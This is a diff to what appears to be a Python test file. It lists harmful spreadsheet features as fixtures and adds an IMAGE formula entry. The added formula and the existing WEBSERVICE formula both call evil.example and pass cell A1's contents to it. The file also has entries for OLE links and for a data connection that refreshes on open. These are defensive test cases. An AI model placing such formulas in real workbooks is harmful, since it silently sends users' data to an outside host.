@@ -123,6 +123,7 @@ HARMFUL: dict[str, Callable[[], bytes]] = {
     "OLE link": lambda: xlsx(
         xl__externalLinks__externalLink1_dot_xml=f'<externalLink xmlns="{SHEET}"><oleLink progId="Package"/></externalLink>'
     ),
+    "a picture of the web": lambda: formula('_xlfn.IMAGE("http://evil.example/?"&amp;A1)'),
     "web service": lambda: formula('_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)'),
     "data fetched on opening": lambda: xlsx(
         xl__connections_dot_xml=f'<connections xmlns="{SHEET}"><connection id="1" refreshOnLoad="1"/></connections>'
